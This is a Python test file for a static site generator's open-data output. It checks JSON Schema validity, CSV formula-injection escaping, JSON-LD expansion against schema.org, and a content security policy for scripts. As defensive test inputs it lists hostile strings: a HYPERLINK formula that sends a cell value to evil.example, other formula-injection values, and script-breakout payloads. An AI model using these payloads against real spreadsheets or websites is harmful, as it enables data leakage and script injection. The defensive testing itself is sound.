"""The catalog as open data (redsite.open_data): every JSON file validated against its JSON Schema with jsonschema,
the CSV read back as a spreadsheet would read it, the catalogs' links and sizes, each method page's JSON-LD
expanded by pyld with a pinned copy of schema.org (no network) and checked against schema.org's definitions,
two builds byte for byte, and hostile front matter on a fixture site."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from jsonschema import Draft202012Validator
from pyld import jsonld

from conftest import REPO
from fixture_site import build_fixture, make_fixture_site, write
from redsite import licensing
from redsite.model import load_model
from redsite.open_data import publish, schema, structured_data, tables
from redsite.open_data import records as records_module
from redsite.page_security import csp_for
from redsite.pages import list_pages, typed_pages
from redsite.render import format_size, t

MODEL = load_model()
DEFAULT = MODEL.default_language.code
LANGS = list(MODEL.codes)
TYPES = list(MODEL.content_types)
PINNED = Path(__file__).parent / "data" / "schemaorg"
SCHEMA_ORG = "http://schema.org/"


def prefix(lang: str) -> str:
    return "" if lang == DEFAULT else f"{lang}/"


def site_file(site: Path, site_url: str, url: str) -> Path:
    """The built file an absolute address of the site leads to."""
    assert url.startswith(site_url), url
    path = url[len(site_url):]
    return site / (path + "index.html" if path.endswith("/") or not path else path)


# --- Units: schema, CSV, JSON-LD, policy -------------------------------------------------------------

def test_the_schema_is_made_from_the_content_model(tmp_path):
    for type_name in TYPES:
        record = schema.record_schema(type_name, MODEL)
        fields = MODEL.fields_of(type_name)
        assert [name for name in record["properties"] if name not in records_module.ADDED_KEYS] == \
            [spec.name for spec in fields]
        assert {spec.name for spec in fields if spec.required} <= set(record["required"])
        assert record["properties"]["themes"]["items"]["enum"] == list(MODEL.vocabularies["themes"])
        assert record["properties"]["themes"]["minItems"] == 1
        assert record["properties"]["type"] == {"const": type_name}
    # a field added to the model appears in the schema; one named like a key the records add is refused
    text = (REPO / "scripts/redsite/content_model.yml").read_text(encoding="utf-8")
    added = text.replace("  method:\n    folder: methods\n    fields:\n",
                         "  method:\n    folder: methods\n    fields:\n      budget: {type: str, required: false}\n")
    (tmp_path / "a.yml").write_text(added, encoding="utf-8")
    assert "budget" in schema.record_schema("method", load_model(tmp_path / "a.yml"))["properties"]
    (tmp_path / "b.yml").write_text(added.replace("budget:", "url:"), encoding="utf-8")
    with pytest.raises(schema.SchemaError, match="url"):
        schema.record_schema("method", load_model(tmp_path / "b.yml"))


def test_every_schema_is_a_valid_draft_2020_12_schema():
    for type_name in TYPES:
        document = schema.dataset_schema(type_name, MODEL, "https://example.org/data/x.schema.json", "x")
        assert document["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        Draft202012Validator.check_schema(document)


HOSTILE_TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
    'He said "hello", then \'bye\'', "line one\nline two", "</script><script>alert(1)</script>",
    "<!-- comment -->", "x" * 40000, "ordinary text",
]


def test_csv_cells_that_a_spreadsheet_would_compute_are_text_and_every_value_comes_back():
    records = [{"slug": f"s{index}", "language": "en", "url": "https://e.org/", "title": text, "themes": [text, "b"],
                "example": False, "translations": {"sv": "https://e.org/sv/"}, "downloads": {}}
               for index, text in enumerate(HOSTILE_TEXTS)]
    header = tables.columns("method", "en", MODEL)
    data = tables.csv_bytes(records, header)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with a byte-order mark
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE_TEXTS)
    for text, row in zip(HOSTILE_TEXTS, rows, strict=True):
        title = row["title"]
        assert not title.startswith(tables.FORMULA_STARTS)
        assert title == ("'" + text if text.startswith(tables.FORMULA_STARTS) else text)  # nothing lost
        assert row["example"] == "false" and row["translation_sv"] == "https://e.org/sv/"
        assert row["themes"] == "; ".join([text, "b"]) or row["themes"].startswith("'")
    assert b"\r\n" in data


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_json_ld_cannot_end_its_script_element_whatever_the_title(text):
    meta = {"type": "method", "title": text, "summary": text}
    data = structured_data.describe(meta, "methods/x.md", "en", "2026-01-01", "https://e.org/", MODEL,
                                    licensing.content_licence(MODEL).url, owned={"en": {"methods/x.md"}})
    block = structured_data.script_text(data)
    assert "<" not in block and ">" not in block and "&" not in block  # no </script, no <!--, no entity
    assert json.loads(block)["name"] == text and json.loads(block)["description"] == text


def test_a_fallback_page_and_a_page_without_a_site_address_carry_no_json_ld():
    meta = {"type": "method", "title": "T", "summary": "S"}
    assert structured_data.json_ld_for_page(meta, "sv/methods/x.md", "sv", None, True, "https://e.org/", MODEL,
                                           {}) == ""
    assert structured_data.json_ld_for_page(meta, "methods/x.md", "en", None, False, "", MODEL, {}) == ""
    assert structured_data.json_ld_for_page({"title": "About"}, "about.md", "en", None, False, "https://e.org/",
                                           MODEL, {}) == ""


@pytest.mark.parametrize("where, script, refused", [
    ("head", '<script type="application/ld+json">{"a":1}</script>', False),
    ("head", '<script type="application/json">{"a":1}</script>', False),
    ("content", '<script type="application/ld+json">{"a":1}</script>', True),  # a contributor's JSON-LD
    ("head", '<script type="application/x-javascript">alert(1)</script>', True),  # JavaScript by another name
    ("head", '<script type="text/jscript">alert(1)</script>', True),
    ("head", '<script type="importmap">{"imports":{}}</script>', True),
    ("head", '<script type="speculationrules">{}</script>', True),
    ("head", '<script type="application/ld+json; x">{}</script>', True),  # not exactly the data type
])
def test_the_policy_lets_only_data_blocks_through_and_none_from_the_content(where, script, refused):
    content = f"<div>{script if where == 'content' else 'text'}</div>"
    head = script if where == "head" else ""
    page = f"<html><head>{head}</head><body>{content}</body></html>"
    policy, reasons = csp_for(page, content, ())
    assert bool(reasons) == refused, reasons
    assert "sha256" not in policy.split("style-src")[0]  # a data block is never hashed


def test_no_template_pattern_is_made_from_a_data_block(tmp_path):
    from redsite.page_security import template_script_patterns

    (tmp_path / "t.html").write_text('<script type="application/ld+json">{{ data }}</script>', encoding="utf-8")
    assert template_script_patterns((str(tmp_path),)) == ()
    _, refused = csp_for("<html><head><script>alert(1)</script></head><body>x</body></html>", "x",
                         (str(tmp_path),))
    assert refused  # a body without '<' is not a template's script just because a data block prints one


# --- The real site -------------------------------------------------------------------------------

def load_dataset(site: Path, type_name: str, lang: str) -> tuple[dict, bytes]:
    data = (site / publish.data_path(type_name, lang, "json", MODEL)).read_bytes()
    return json.loads(data), data


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("type_name", TYPES)
def test_every_dataset_validates_against_its_schema_and_holds_the_language_s_own_pages(built_site, type_name, lang):
    site, site_url = built_site.site, built_site.site_url
    document, _ = load_dataset(site, type_name, lang)
    schema_document = json.loads((site / publish.schema_path(type_name)).read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema_document)
    validator = Draft202012Validator(schema_document, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert list(validator.iter_errors(document)) == []
    assert document["$schema"] == schema_document["$id"] == site_url + publish.schema_path(type_name)
    assert document["license"] == licensing.content_licence(MODEL).url
    own = [(page, parsed) for page, parsed in typed_pages(type_name, lang) if page.lang == lang]
    records = document["records"]
    assert [record["slug"] for record in records] == sorted(Path(page.rel).stem for page, _ in own)
    by_slug = {Path(page.rel).stem: (page, parsed) for page, parsed in own}
    owned = {code: {page.rel for page in list_pages(code)} for code in LANGS}
    for record in records:
        page, parsed = by_slug[record["slug"]]
        for spec in MODEL.fields_of(type_name):  # every front-matter field, as the page has it
            value = parsed.meta.get(spec.name)
            if value is not None:
                assert record[spec.name] == records_module.plain(value, spec.parsed.kind in ("str", "text"))
        assert site_file(site, site_url, record["url"]).is_file()
        assert record["url"] == f"{site_url}{prefix(lang)}{MODEL.content_types[type_name].folder}/{record['slug']}/"
        assert set(record["translations"]) == {code for code in LANGS if code != lang and page.rel in owned[code]}
        for url in record["translations"].values():
            assert site_file(site, site_url, url).is_file()
        html = site_file(site, site_url, record["url"]).read_text(encoding="utf-8")
        assert f'datetime="{record["last_updated"]}' in html  # the date the page itself shows
        expected = ("pdf", "docx", "odt", "worksheet_docx", "worksheet_odt", "handbook_pdf", "handbook_docx",
                    "handbook_odt") if type_name == "method" else ()
        assert tuple(record["downloads"]) == expected  # this build made every download
        for url in record["downloads"].values():
            assert site_file(site, site_url, url).is_file(), url


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("type_name", TYPES)
def test_every_csv_holds_the_json_records_for_a_spreadsheet(built_site, type_name, lang):
    document, _ = load_dataset(built_site.site, type_name, lang)
    data = (built_site.site / publish.data_path(type_name, lang, "csv", MODEL)).read_bytes()
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == tables.columns(type_name, lang, MODEL)
    assert rows[1:] == [tables.row(record, rows[0]) for record in document["records"]]
    assert all(not cell.startswith(tables.FORMULA_STARTS) for row in rows for cell in row)
    assert [row[0] for row in rows[1:]] == [record["slug"] for record in document["records"]]


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("type_name", TYPES)
def test_each_catalog_links_its_data_with_format_and_size(built_site, type_name, lang):
    folder = MODEL.content_types[type_name].folder
    page = built_site.site / prefix(lang) / folder / "index.html"
    html = page.read_text(encoding="utf-8")
    box = re.search(r"<aside class=\"red-open-data\".*?</aside>", html, re.S)[0]
    assert t("open_data_title", lang) in box
    links = re.findall(r'<a href="([^"]+)" type="([^"]+)"[^>]*>([^<]+)</a> \(([^)]+)\)', box)
    assert [(kind, label) for _, kind, label, _ in links] == [
        ("application/json", "JSON"), ("text/csv", "CSV"), ("application/schema+json", "JSON Schema")]
    for href, _, _, size in links:
        target = (page.parent / href).resolve()
        assert target.is_file(), href
        assert size.replace("\u00a0", " ") == format_size(target.stat().st_size, lang).replace("\u00a0", " ")
    assert f'href="{licensing.content_licence(MODEL).deed(lang)}"' in box


def test_two_builds_write_the_same_data_byte_for_byte(real_site_built_twice):
    sites = [build.site for build in real_site_built_twice]
    files = sorted(path.relative_to(sites[0]) for path in sites[0].rglob("*") if path.suffix in (".json", ".csv")
                   and "data" in path.parts)
    assert len(files) == len(TYPES) * (2 * len(LANGS) + 1)
    for rel in files:
        assert (sites[0] / rel).read_bytes() == (sites[1] / rel).read_bytes(), rel
    document = json.loads((sites[0] / "data" / "methods.json").read_text(encoding="utf-8"))
    assert all(record["downloads"] == {} for record in document["records"])  # no PDF made: none listed


# --- JSON-LD, expanded by pyld with schema.org pinned ---------------------------------------------

@pytest.fixture(scope="module")
def schema_org():
    context = json.loads(gzip.decompress((PINNED / "jsonldcontext-30.0.jsonld.gz").read_bytes()))
    vocabulary = json.loads(gzip.decompress((PINNED / "vocabulary-30.0.json.gz").read_bytes()))

    def loader(url, options=None):
        if url.rstrip("/") in ("https://schema.org", "http://schema.org"):
            return {"contentType": "application/ld+json", "contextUrl": None, "documentUrl": url, "document": context}
        raise AssertionError(f"the test would fetch {url}")

    return loader, vocabulary


def ancestors(name: str, classes: dict) -> set[str]:
    found, stack = set(), [name]
    while stack:
        current = stack.pop()
        if current not in found:
            found.add(current)
            stack += classes.get(current, {}).get("subClassOf", [])
    return found


def check_node(node: dict, vocabulary: dict) -> list[str]:
    """Every property of an expanded node is schema.org's, allowed on its type, with a value of its range."""
    classes, properties = vocabulary["classes"], vocabulary["properties"]
    problems = []
    types = [name.removeprefix(SCHEMA_ORG) for name in node.get("@type", [])]
    kinds = set().union(*(ancestors(name, classes) for name in types)) if types else set()
    for name in types:
        if name not in classes:
            problems.append(f"unknown type {name}")
    for key, values in node.items():
        if key.startswith("@"):
            continue
        if not key.startswith(SCHEMA_ORG) or key.removeprefix(SCHEMA_ORG) not in properties:
            problems.append(f"not a schema.org property: {key}")
            continue
        prop = properties[key.removeprefix(SCHEMA_ORG)]
        if not kinds & set(prop["domainIncludes"]):
            problems.append(f"{key} is not a property of {types}")
        ranges = set(prop["rangeIncludes"])
        for value in values:
            if "@value" in value:
                kind = value.get("@type", "Text").removeprefix(SCHEMA_ORG)
                ok = bool(ancestors(kind, classes) & ranges)
            elif "@type" in value:
                ok = bool(set().union(*(ancestors(name.removeprefix(SCHEMA_ORG), classes)
                                        for name in value["@type"])) & ranges)
                problems += check_node(value, vocabulary)
            else:  # a bare reference: a URL, or a thing described elsewhere
                ok = "URL" in ranges or bool(ranges - {"Text", "Date", "DateTime", "Number", "Boolean"})
            if not ok:
                problems.append(f"{key}: {value} is not one of {sorted(ranges)}")
    return problems


JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


@pytest.mark.parametrize("lang", LANGS)
def test_every_method_page_describes_itself_in_schema_org_terms(built_site, schema_org, lang):
    loader, vocabulary = schema_org
    site, site_url = built_site.site, built_site.site_url
    owned = {code: {page.rel for page in list_pages(code)} for code in LANGS}
    methods = [(page, parsed) for page, parsed in typed_pages("method", lang) if page.lang == lang]
    assert methods
    for page, parsed in methods:
        url = f"{site_url}{prefix(lang)}methods/{Path(page.rel).stem}/"
        html = site_file(site, site_url, url).read_text(encoding="utf-8")
        blocks = JSON_LD.findall(html)
        assert len(blocks) == 1 and html.index(blocks[0]) < html.index("</head>"), url
        data = json.loads(blocks[0])
        assert (data["name"], data["description"], data["inLanguage"]) == (
            parsed.meta["title"], parsed.meta["summary"], lang)
        assert data["url"] == data["@id"] == url
        assert data["isPartOf"]["url"] == f"{site_url}{prefix(lang)}"
        assert data["license"] == licensing.content_licence(MODEL).url
        assert f'<time datetime="{data["dateModified"]}' in html
        others = {code: f"{site_url}{prefix(code)}methods/{Path(page.rel).stem}/"
                  for code in LANGS if code != lang and page.rel in owned[code]}
        if lang == DEFAULT:
            assert {work["inLanguage"]: work["url"] for work in data.get("workTranslation", [])} == others
            assert "translationOfWork" not in data
        else:
            assert data["translationOfWork"]["url"] == others[DEFAULT] and "workTranslation" not in data
        expanded = jsonld.expand(data, {"documentLoader": loader})
        assert len(expanded) == 1
        assert check_node(expanded[0], vocabulary) == [], url
        assert expanded[0]["@type"] == [SCHEMA_ORG + "Article"]
        assert expanded[0][SCHEMA_ORG + "license"] == [{"@id": licensing.content_licence(MODEL).url}]


def test_only_method_pages_carry_json_ld(built_site):
    for page in built_site.site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        if "offline" in page.parts:
            continue
        is_method = re.search(r"(^|/)methods/[a-z0-9-]+/index\.html$", page.relative_to(built_site.site).as_posix())
        assert len(JSON_LD.findall(html)) == (1 if is_method else 0), page


def test_the_json_ld_checker_finds_what_schema_org_does_not_define(schema_org):
    loader, vocabulary = schema_org
    bad = {"@context": "https://schema.org", "@type": "Article", "name": "x", "inLanguages": "en",
           "dateModified": "2026-01-01", "workTranslation": "just text", "price": "3"}
    problems = check_node(jsonld.expand(bad, {"documentLoader": loader})[0], vocabulary)
    assert any("inLanguages" in problem for problem in problems)  # not a term of schema.org: dropped or flagged
    assert any("price" in problem for problem in problems)  # a property of offers, not of an article
    assert any("workTranslation" in problem for problem in problems)  # text where a creative work belongs


# --- Hostile front matter on a fixture site ----------------------------------------------------------

METHOD = """---
type: method
title: {title}
summary: {summary}
work_package: []
themes: [networking]
regions: [blekinge]
last_reviewed: 2026-01-15
sources: [red-description]
example: false
origin: lead-partner
---
"""
LONG = "Lång " * 3000
HOSTILE = {
    "docs/methods/quotes.md": METHOD.format(
        title="'\"Quoted\" & ''single'' <3 &lt;/script&gt; &lt;!-- x'",
        summary='"=HYPERLINK(\\"https://evil.example\\";\\"x\\") first line\\nsecond line"'),
    "docs/methods/formula.md": METHOD.format(title="'=1+2'", summary=f"'-{LONG}'"),
    "docs_sv/methods/formula.md": METHOD.format(title="'@SUM(A1)'", summary="'+46 Svensk sammanfattning'"),
    "docs/methods/index.md": "---\ntitle: Methods\n---\n\n<!-- red:catalog method -->\n",
    "docs_sv/methods/index.md": "---\ntitle: Metoder\n---\n\n<!-- red:catalog method -->\n",
    "docs_ru/methods/index.md": "---\ntitle: Методы\n---\n\n<!-- red:catalog method -->\n",
}
SECTIONS = {lang: "".join(f"\n## {MODEL.section_title(name, lang)}\n\nText.\n"
                          for name in MODEL.content_types["method"].sections) for lang in LANGS}
BODY_SCRIPT = '\n<script type="application/ld+json">{"@type": "Organization", "name": "Not us"}</script>\n'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, site_address):
    root = make_fixture_site(tmp_path_factory.mktemp("open-data") / "site")
    for rel, text in HOSTILE.items():
        lang = {"docs_sv": "sv", "docs_ru": "ru"}.get(rel.split("/")[0], "en")
        body = "" if rel.endswith("index.md") else SECTIONS[lang] + (BODY_SCRIPT if "quotes" in rel else "")
        write(root, rel, text + body)
    build = build_fixture(root, site_url=site_address, timeout=300)
    assert build.returncode == 0, build.log
    return build


def test_hostile_values_reach_the_data_intact_and_the_csv_as_text(hostile_site):
    site = hostile_site.site
    english = json.loads((site / "data/methods.json").read_text(encoding="utf-8"))["records"]
    swedish = json.loads((site / "sv/data/methods.json").read_text(encoding="utf-8"))["records"]
    russian = json.loads((site / "ru/data/methods.json").read_text(encoding="utf-8"))["records"]
    quotes = next(record for record in english if record["slug"] == "quotes")
    assert quotes["title"] == "\"Quoted\" & 'single' <3 &lt;/script&gt; &lt;!-- x"
    assert quotes["summary"] == '=HYPERLINK("https://evil.example";"x") first line\nsecond line'
    assert next(record for record in english if record["slug"] == "formula")["summary"] == "-" + LONG
    # a page missing in a language: not in its dataset, not listed as a translation
    assert [record["slug"] for record in swedish] == ["formula"] and russian == []
    assert quotes["translations"] == {}
    assert next(record for record in english if record["slug"] == "formula")["translations"] == {
        "sv": hostile_site.site_url + "sv/methods/formula/"}
    rows = list(csv.DictReader(io.StringIO((site / "data/methods.csv").read_bytes().decode("utf-8-sig"),
                                           newline="")))
    cells = {row["slug"]: row for row in rows}
    assert cells["quotes"]["summary"] == "'" + quotes["summary"]
    assert cells["formula"]["title"] == "'=1+2" and cells["formula"]["summary"] == "'-" + LONG
    assert cells["formula"]["translation_sv"] and cells["formula"]["translation_ru"] == ""


def test_hostile_titles_cannot_break_out_of_the_json_ld_and_content_cannot_add_one(hostile_site):
    site = hostile_site.site
    html = (site / "methods/quotes/index.html").read_text(encoding="utf-8")
    blocks = JSON_LD.findall(html)
    assert len(blocks) == 1  # the page's own; the one in its body was removed
    data = json.loads(blocks[0])
    assert data["name"] == "\"Quoted\" & 'single' <3 &lt;/script&gt; &lt;!-- x"
    assert "Not us" not in html
    assert "workTranslation" not in data  # no translation exists
    formula = json.loads(JSON_LD.findall((site / "methods/formula/index.html").read_text(encoding="utf-8"))[0])
    assert [work["inLanguage"] for work in formula["workTranslation"]] == ["sv"]
    # the Swedish and Russian pages standing in for a missing translation describe nothing
    assert JSON_LD.findall((site / "sv/methods/quotes/index.html").read_text(encoding="utf-8")) == []
    assert JSON_LD.findall((site / "ru/methods/formula/index.html").read_text(encoding="utf-8")) == []


def test_a_title_with_a_tag_is_refused_before_it_reaches_any_output(tmp_path, site_address):
    root = make_fixture_site(tmp_path / "site")
    write(root, "docs/methods/tag.md", METHOD.format(title="'</script><!-- x'", summary="S.") + SECTIONS["en"])
    build = build_fixture(root, site_url=site_address)
    assert build.returncode != 0
    assert "docs/methods/tag.md" in build.log and "contains HTML markup" in build.log
    assert "Traceback" not in build.log
    shutil.rmtree(root)


def test_site_paths_of_the_data_are_below_each_language(built_site):
    for lang in LANGS:
        for type_name in TYPES:
            path = publish.data_path(type_name, lang, "json", MODEL)
            assert path.startswith(f"{prefix(lang)}data/") and urlsplit(path).path == path
